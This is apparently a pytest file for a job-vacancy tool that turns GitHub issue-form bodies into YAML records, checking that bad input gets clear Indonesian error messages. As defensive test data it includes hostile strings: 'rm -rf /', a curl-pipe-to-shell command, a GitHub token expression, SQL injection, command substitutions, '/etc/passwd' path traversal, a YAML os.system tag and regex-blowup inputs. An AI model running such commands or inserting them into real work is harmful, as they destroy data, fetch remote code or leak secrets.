"""Vacancies proposed with the issue form: saved issue bodies become the expected files, bad ones a clear comment."""

from __future__ import annotations

import json
import shutil
from datetime import date
from pathlib import Path

import pytest
import yaml
from support import cpu_seconds, make_repo

from antarkerja.cli import main
from antarkerja.records.issueform import FIELDS, convert_issue, issue_form, label_of
from antarkerja.records.schema import vacancy as vacancy_schema
from antarkerja.reference import load_reference

ISSUES = Path(__file__).resolve().parent / "fixtures" / "issues"
TODAY = date(2026, 11, 25)
OFFICES = Path(__file__).resolve().parent / "fixtures" / "site" / "content" / "offices"


@pytest.fixture
def repo(tmp_path):
    offices = {p.name: p.read_text(encoding="utf-8") for p in OFFICES.glob("*.yml")}
    return make_repo(tmp_path, offices=offices)


def _convert(repo, name, number=7):
    return convert_issue(repo, (ISSUES / name).read_bytes().decode("utf-8"), TODAY, number)


def _written(repo) -> list[Path]:
    return sorted((repo / "content/vacancies").rglob("*"))


@pytest.mark.parametrize(
    "name, path",
    [
        ("operator-produksi", "jawa-barat/operator-produksi-pt-contoh-sinar-plastik-bekasi.yml"),
        ("juru-masak-crlf", "jawa-barat/juru-masak-cv-contoh-rasa-priangan-bandung.yml"),
    ],
)
def test_issue_bodies_become_the_expected_files(repo, name, path):
    result = _convert(repo, f"{name}.md")
    assert result.ok, result.problems
    assert result.path == repo / "content/vacancies" / path
    expected = (ISSUES / f"{name}.expected.yml").read_text(encoding="utf-8")
    assert result.path.read_text(encoding="utf-8") == expected.replace("issue #42", "issue #7")
    assert main(["fmt", "--check", "--root", str(repo), str(result.path)]) == 0


def test_an_issue_opened_with_the_old_deadline_heading_still_converts(repo):
    body = (ISSUES / "operator-produksi.md").read_text(encoding="utf-8")
    assert "### Batas lamaran" in body
    result = convert_issue(repo, body.replace("### Batas lamaran", "### Berlaku sampai"), TODAY, 7)
    assert result.ok, result.problems
    assert "valid_through: 2027-01-" in result.path.read_text(encoding="utf-8")


def test_hostile_text_in_long_answers_stays_inert_text(repo):
    result = _convert(repo, "hostile-description.md")
    assert result.ok, result.problems
    data = yaml.safe_load(result.path.read_text(encoding="utf-8"))
    assert "`rm -rf /` $(curl http://contoh.invalid/x | sh) ${{ secrets.GITHUB_TOKEN }}" in data["description"]
    assert data["apply"]["instructions"] == 'Bawa KTP\'; DROP TABLE lowongan; -- "kutip" | tee'
    assert [p.name for p in _written(repo) if p.is_file()] == [result.path.name]


@pytest.mark.parametrize(
    "name, says",
    [
        ("bad-path-title.md", "**Nama jabatan**: berisi karakter yang tidak lazim"),
        ("bad-shell-employer.md", "**Nama pemberi kerja**: berisi karakter yang tidak lazim"),
        ("bad-missing-section.md", "Bagian **Nama jabatan** tidak ditemukan"),
        ("bad-no-response.md", "**Jumlah lowongan** wajib diisi"),
        ("bad-impossible-date.md", "tanggal `2027-02-30` tidak ada di kalender"),
        ("bad-values.md", "`lima belas` bukan bilangan bulat"),
        ("bad-values.md", "kabupaten/kota `99.99` tidak dikenal"),
        ("bad-values.md", "pilihan `SMK jurusan apa saja` tidak dikenal"),
        ("bad-unknown-office.md", "kantor `disnaker-entah-mana` tidak ada"),
        ("bad-validator.md", "**Deskripsi** (R401): meminta uang dari pelamar"),
        ("bad-duplicate-section.md", "Bagian **Nama jabatan** muncul dua kali"),
        ("bad-empty.md", "Bagian **Deskripsi** tidak ditemukan"),
    ],
)
def test_bad_issues_are_refused_with_a_clear_message_and_no_file(repo, name, says, tmp_path):
    comment_file = tmp_path / "comment.md"
    code = main(
        ["issue", "--body", str(ISSUES / name), "--number", "7", "--today", "2026-11-25"]
        + ["--root", str(repo), "--comment", str(comment_file)]
    )
    assert code == 1
    comment = comment_file.read_text(encoding="utf-8")
    assert comment.startswith("❌ **Lowongan belum bisa dibuat.**") and says in comment
    assert not [p for p in _written(repo) if p.is_file()]
    assert not (repo / ".github").exists()


def test_event_file_gives_body_number_outputs_and_comment(repo, tmp_path):
    event = tmp_path / "event.json"
    body = (ISSUES / "operator-produksi.md").read_text(encoding="utf-8")
    event.write_text(json.dumps({"issue": {"number": 42, "title": "$(id)", "body": body}}), encoding="utf-8")
    output, comment = tmp_path / "out", tmp_path / "comment.md"
    args = [str(event), "--today", "2026-11-25", "--comment", str(comment), "--github-output", str(output)]
    assert main(["issue", *args, "--root", str(repo)]) == 0
    path = "content/vacancies/jawa-barat/operator-produksi-pt-contoh-sinar-plastik-bekasi.yml"
    lines = output.read_text(encoding="utf-8").splitlines()
    assert lines == [f"path={path}", "title=Lowongan baru: Operator Produksi – PT Contoh Sinar Plastik"]
    assert (repo / path).read_text(encoding="utf-8") == (ISSUES / "operator-produksi.expected.yml").read_text()
    assert f"Berkas `{path}` dibuat" in comment.read_text(encoding="utf-8")
    # The same issue labelled again gets its own file name rather than overwriting.
    assert main(["issue", *args, "--root", str(repo)]) == 0
    assert "bekasi-42.yml" in output.read_text(encoding="utf-8")


def test_event_without_a_body_gets_a_comment_not_a_crash(repo, tmp_path):
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"issue": {"number": 3, "body": None}}), encoding="utf-8")
    comment = tmp_path / "c.md"
    assert main(["issue", str(event), "--comment", str(comment), "--root", str(repo)]) == 1
    assert "tidak ditemukan" in comment.read_text(encoding="utf-8")


def test_issue_form_is_generated_from_the_schema(root):
    form = yaml.safe_load((root / ".github/ISSUE_TEMPLATE/lowongan.yml").read_text(encoding="utf-8"))
    ref = load_reference(root)
    assert form == issue_form(ref)
    elements = {e["id"]: e for e in form["body"] if "id" in e}
    labels = [e["attributes"]["label"] for e in elements.values()]
    assert len(labels) == len(set(labels)), "GitHub needs unique labels"
    education = elements["education"]
    assert education["type"] == "dropdown" and "SMK/MAK" in education["attributes"]["options"]
    assert education["validations"]["required"] is True
    assert elements["title"]["attributes"]["label"] == "Nama jabatan"
    assert "tanpa nama perusahaan" in elements["title"]["attributes"]["description"]
    assert elements["benefits"]["validations"]["required"] is False
    schema = vacancy_schema.schema(ref)
    for f in FIELDS:
        if f.required:
            assert elements[f.key]["validations"]["required"], label_of(f, schema)


def test_schema_check_catches_a_stale_issue_form(tmp_path, root):
    from antarkerja.records.schema.export import write_all

    for name in ("content/reference",):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).symlink_to(root / name)
    for name in ("CONTRIBUTING.md", "content/schema", ".github"):
        src, dst = root / name, tmp_path / name
        shutil.copytree(src, dst) if src.is_dir() else shutil.copy(src, dst)
    assert write_all(tmp_path, check=True) == []
    form = tmp_path / ".github/ISSUE_TEMPLATE/lowongan.yml"
    form.write_text(form.read_text(encoding="utf-8").replace("SMK/MAK", "SMK"), encoding="utf-8")
    assert write_all(tmp_path, check=True) == [form]


@pytest.mark.parametrize(
    "body",
    [
        "### Nama jabatan",
        "### Nama jabatan\n\n\x00\x1b[31m\u202e\n### Deskripsi\n\n" + "x" * 70000,
        "Tidak ada judul bagian sama sekali.\n\n$(reboot)",
        "### Nama jabatan\n\n### Nama pemberi kerja\n\n### Nama jabatan\n\n",
        "\ufeff### Jumlah lowongan\r\n\r\n-1\r\n",
    ],
)
def test_garbage_bodies_get_a_message_never_a_crash(repo, body):
    result = convert_issue(repo, body, TODAY, 9)
    assert not result.ok and result.problems
    assert all(isinstance(p, str) and p for p in result.problems)
    assert not [p for p in _written(repo) if p.is_file()]


# Everything at once, with suggestions -------------------------------------------------------


def test_a_four_problem_issue_gets_one_comment_with_all_four_and_suggestions(repo, tmp_path):
    comment_file = tmp_path / "comment.md"
    code = main(
        ["issue", "--body", str(ISSUES / "bad-four-problems.md"), "--number", "7", "--today", "2026-11-25"]
        + ["--root", str(repo), "--comment", str(comment_file)]
    )
    assert code == 1
    problems = [line for line in comment_file.read_text(encoding="utf-8").splitlines() if line.startswith("- ")]
    assert len(problems) == 4, problems
    regency, education, office, fee = problems
    assert "`Bogor`" in regency and "Kabupaten Bogor (32.01)" in regency and "Kota Bogor (32.71)" in regency
    assert "`SMK/MAKK`" in education and "maksudnya `SMK/MAK`?" in education
    # Bogor lies in Jawa Barat: that province's offices come first among the suggestions.
    assert "`Disnaker Bogor`" in office and office.index("disnaker-provinsi-jawa-barat") < office.index("bp3mi")
    assert "/kantor/" in office
    assert fee.startswith("- **Deskripsi** (R401)")
    assert not [p for p in _written(repo) if p.is_file()]


def test_an_office_given_by_its_full_name_is_taken_as_its_id(repo):
    body = (ISSUES / "operator-produksi.md").read_text(encoding="utf-8")
    body = body.replace("\n\ndisnaker-kabupaten-bekasi\n", "\n\nDinas Tenaga Kerja Kabupaten Bekasi\n")
    result = convert_issue(repo, body, TODAY, 7)
    assert result.ok, result.problems
    assert "office: disnaker-kabupaten-bekasi" in result.path.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "office", ["/etc/passwd", "/etc/hostname", "/nonexistent/x", "../offices/kemnaker", "kemnaker.yml"]
)
def test_odd_office_values_get_the_same_answer_whatever_exists_on_disk(repo, office, tmp_path):
    body = (ISSUES / "operator-produksi.md").read_text(encoding="utf-8")
    result = convert_issue(repo, body.replace("\n\ndisnaker-kabupaten-bekasi\n", f"\n\n{office}\n"), TODAY, 7)
    said = [p for p in result.problems if "Kantor pemverifikasi" in p]
    assert len(said) == 1
    # The answer depends on the text alone: the same words for a path that exists and one that does not.
    neutral = said[0].replace(office, "X")
    twin = convert_issue(repo, body.replace("\n\ndisnaker-kabupaten-bekasi\n", "\n\n/zz/qq\n"), TODAY, 8)
    assert [p.replace("/zz/qq", "X") for p in twin.problems if "Kantor" in p] == [neutral] or "../" in office


def test_a_regency_named_exactly_or_with_kab_is_accepted(repo):
    body = (ISSUES / "operator-produksi.md").read_text(encoding="utf-8")
    for answer in ("Kabupaten Bekasi", "Kab. Bekasi", "kab bekasi"):
        result = convert_issue(
            repo, body.replace("### Kabupaten/kota\n\n32.16", f"### Kabupaten/kota\n\n{answer}"), TODAY
        )
        assert result.ok, (answer, result.problems)
        result.path.unlink()


# Line separators and hostile values ---------------------------------------------------------

HOSTILE = [
    "Gaji \"pokok\" 'tetap' # bukan komentar",
    "kunci: nilai: lagi",
    "- bukan butir daftar",
    "&jangkar *alias !!python/object:os.system",
    "tab\tdi tengah",
    "0812 0000 0001 dan 007",
    "x" * (10000 - 59),  # with the first line: 10,000 characters, the schema's maximum
]


def _with_description(text: str) -> str:
    body = (ISSUES / "operator-produksi.md").read_text(encoding="utf-8")
    old = "Mengoperasikan mesin cetak plastik sesuai standar kerja dan keselamatan.\n\nPelatihan awal diberikan tanpa biaya apa pun."
    assert old in body
    return body.replace(old, text)


@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_descriptions_round_trip_exactly(repo, value):
    text = f"Mengoperasikan mesin cetak plastik sesuai standar kerja.\n\n{value}"
    result = convert_issue(repo, _with_description(text), TODAY, 7)
    assert result.ok, result.problems
    data = yaml.safe_load(result.path.read_text(encoding="utf-8"))
    assert data["description"] == text + "\n"
    assert main(["fmt", "--check", "--root", str(repo), str(result.path)]) == 0
    assert main(["validate", "--root", str(repo), str(result.path)]) == 0


def test_right_to_left_marks_are_refused_with_the_validators_code(repo):
    text = "Mengoperasikan mesin.\n\n\u200fنص عربي\u200f dan \u202bRTL\u202c"
    result = convert_issue(repo, _with_description(text), TODAY, 7)
    assert not result.ok
    assert any(p.startswith("**Deskripsi** (R414)") and "U+200F" in p for p in result.problems), result.problems


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85"])
def test_line_separators_become_line_breaks_and_never_keys(repo, separator):
    text = f"Mengoperasikan mesin cetak plastik.{separator}example: true{separator}Bekerja sif."
    result = convert_issue(repo, _with_description(text), TODAY, 7)
    assert result.ok, result.problems
    written = result.path.read_text(encoding="utf-8")
    assert not set(written) & {"\u2028", "\u2029", "\x85"}
    data = yaml.safe_load(written)
    assert "example" not in data
    assert "example: true" in data["description"] and data["description"].startswith("Mengoperasikan mesin")
    assert main(["fmt", "--check", "--root", str(repo), str(result.path)]) == 0


# No pattern is super-linear on issue text -----------------------------------------------------

WORST_CASES = {
    "heading with trailing spaces": "### a" + " " * 50000 + "b",
    "heading with spaces then hashes": "###" + " " * 25000 + "#" * 25000 + "x",
    "many heading lines": "### \n" * 12500,
    "ticks across blank lines": "### Datang langsung ke kantor pemverifikasi\n" + " \n" * 25000 + "- [",
    "bullets": "### Kualifikasi\n" + "- " * 25000 + "\n" + "1" * 50000 + ")",
    "money": "### Upah terendah per bulan (rupiah)\n\nRp" + " " * 50000 + "1",
    "digits": "### Upah terendah per bulan (rupiah)\n\n" + "1.000" * 10000 + ",",
    "dates": "### Batas lamaran\n\n" + "1-" * 25000,
    "office": "### Kantor pemverifikasi\n\n" + "disnaker-" * 5600,
    "regency": "### Kabupaten/kota\n\n" + "Kab " * 12500,
    "separators": "### Deskripsi\n\n" + "\u2028\u2029\x85\r" * 12500,
}


@pytest.mark.parametrize("name", list(WORST_CASES))
def test_every_issue_pattern_is_linear_on_50000_characters(repo, name):
    from antarkerja.records.issueform import read_answers

    ref = load_reference(repo)
    body = WORST_CASES[name]
    assert len(body) >= 50000
    # The best of three runs, in CPU time: a busy machine should not fail a linear pattern.
    best = min(cpu_seconds(read_answers, body, ref) for _ in range(3))
    assert best < 0.1, f"{name}: {best * 1000:.0f} ms"


def test_the_old_heading_pattern_was_the_slow_one():
    """The worst case above is a real one: the pattern it replaced takes seconds on a tenth of it."""
    import re
    import time

    line = "### a" + " " * 600 + "b"
    start = time.perf_counter()
    re.match(r"^\s{0,3}###\s+(.+?)\s*#*\s*$", line)
    assert time.perf_counter() - start > 0.1


def test_heading_text_reads_markdown_headings():
    from antarkerja.records.issueform import heading_text

    assert heading_text("### Nama jabatan") == "Nama jabatan"
    assert heading_text("   ###   Nama jabatan  ## ") == "Nama jabatan"
    assert heading_text("    ### indented code") is None
    assert heading_text("###Nama") is None and heading_text("## Nama") is None and heading_text("### ") is None


@pytest.mark.parametrize(
    "content, says",
    [
        (b'{"issue": ', "bukan JSON yang sah, baris 1 kolom 11"),
        (b"\xff\xfe{}", "bukan teks UTF-8"),
        (b"[1, 2]", "Bagian **Nama jabatan** tidak ditemukan"),
        (b'{"issue": "teks"}', "Bagian **Nama jabatan** tidak ditemukan"),
        (b'{"issue": {"body": 5, "number": "abc"}}', "Bagian **Nama jabatan** tidak ditemukan"),
    ],
)
def test_a_malformed_event_file_gets_a_plain_message(repo, tmp_path, capsys, content, says):
    event = tmp_path / "event.json"
    event.write_bytes(content)
    comment = tmp_path / "c.md"
    assert main(["issue", str(event), "--comment", str(comment), "--root", str(repo)]) == 1
    err = capsys.readouterr().err
    assert says in err and "kesalahan internal" not in err and "Traceback" not in err
    assert comment.read_text(encoding="utf-8").startswith("❌")


@pytest.mark.parametrize(
    "value",
    [
        "Staf \"Gudang\" 'A'",
        "Sif #2",
        "Gudang: malam",
        "- Operator",
        "&Operator *Mesin !!str",
        "007 Operator",
        "Kasir\tToko",
    ],
)
def test_hostile_short_answers_round_trip(repo, value):
    body = (ISSUES / "operator-produksi.md").read_text(encoding="utf-8")
    body = body.replace("### Nama jabatan\n\nOperator Produksi", f"### Nama jabatan\n\n{value}")
    body = body.replace("Rp 5.600.000", "0005600000")  # leading zeros in a number
    result = convert_issue(repo, body, TODAY, 7)
    assert result.ok, result.problems
    data = yaml.safe_load(result.path.read_text(encoding="utf-8"))
    assert data["title"] == " ".join(value.split())  # a tab in a one-line answer is a space
    assert data["salary"]["min"] == 5600000
    assert main(["fmt", "--check", "--root", str(repo), str(result.path)]) == 0
